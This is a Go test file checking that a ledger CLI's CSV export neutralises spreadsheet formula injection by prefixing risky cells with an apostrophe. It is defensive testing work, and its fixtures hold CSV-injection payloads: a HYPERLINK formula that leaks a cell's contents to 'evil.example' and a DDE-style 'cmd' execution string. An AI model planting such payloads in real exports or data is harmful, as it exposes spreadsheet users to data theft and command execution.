package main

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	ledgerv1 "github.com/pactledger/pactledger/proto/pactledger/ledger/v1"
)

// --output csv keeps a spreadsheet from reading a writer's words as a
// formula: a cell that starts with = + - @ gets a leading apostrophe, as
// the console's grant export does. Ids, times and "-" (none) are read as
// they are.
func TestCSVCellsAreNoFormulas(t *testing.T) {
	f := start(t)
	c, wctx := f.writer(t)
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"A-7401")`
	var ids []string
	for _, r := range []*ledgerv1.AppendRefusalRequest{
		{ClaimedPrincipal: "acct-ivan", ClaimedAgent: "+cmd|' /C calc'!A0", Action: &ledgerv1.RefusalAction{Tool: "@SUM(1+1)", Target: formula}, Reason: "r"},
		{ClaimedPrincipal: "acct-ivan", ClaimedAgent: "MyHelper", Action: &ledgerv1.RefusalAction{Tool: "cancel_order", Target: "-1+1"}, Reason: "r"},
	} {
		r.ObservedAt = timestamppb.New(time.Now().Add(-time.Minute))
		rep, err := c.AppendRefusal(wctx, r)
		if err != nil {
			t.Fatal(err)
		}
		ids = append(ids, rep.GetRow().GetId())
	}
	code, out, errs := f.ctl(t, "support", "lookup", "--principal", "acct-ivan", "-o", "csv")
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if code != 0 || err != nil || len(recs) != 3 {
		t.Fatalf("lookup -o csv: %d %v\n%s%s", code, err, out, errs)
	}
	if want := []string{"row", "issued (UTC)", "status", "principal", "target", "tool", "agent", "dispute", "writer-only targets"}; !slices.Equal(recs[0], want) {
		t.Fatalf("header %q, want %q", recs[0], want)
	}
	for _, r := range recs[1:] {
		if !slices.Contains(ids, r[0]) || !strings.HasPrefix(r[1], "20") || r[2] != "unauthorized" || r[3] != "acct-ivan" || r[7] != "none" {
			t.Errorf("row %q: id, time, status, principal or dispute not as recorded", r)
		}
		for i, cell := range r {
			if cell != "" && cell != "-" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %d of %q starts with %q: a spreadsheet reads it as a formula", i, r, cell[0])
			}
		}
		switch r[0] {
		case ids[0]:
			if r[4] != "'"+formula || r[5] != "'@SUM(1+1)" || r[6] != "'+cmd|' /C calc'!A0" || r[8] != "'"+formula {
				t.Errorf("row %q: want each of the writer's cells after an apostrophe", r)
			}
		case ids[1]:
			if r[4] != "'-1+1" || r[5] != "cancel_order" || r[6] != "MyHelper" {
				t.Errorf("row %q: want the target after an apostrophe, the rest as it is", r)
			}
		}
	}
}

// Every cell that starts as a formula may, a tab and a carriage return
// among them, gets an apostrophe; "-", ledgerctl's word for none, and an
// empty cell are left as they are.
func TestCSVSafe(t *testing.T) {
	got := csvSafe([]string{"A-5531", "=HYPERLINK(\"x\")", "+1", "-2", "@SUM(A1)", "\tx", "\rx", "", "-", "acct 48213", "2026-10-07 13:12:44Z", " =HYPERLINK(\"x\")", "＝HYPERLINK(\"x\")"})
	want := []string{"A-5531", "'=HYPERLINK(\"x\")", "'+1", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "", "-", "acct 48213", "2026-10-07 13:12:44Z", "' =HYPERLINK(\"x\")", "'＝HYPERLINK(\"x\")"}
	if !slices.Equal(got, want) {
		t.Fatalf("csvSafe = %q, want %q", got, want)
	}
}
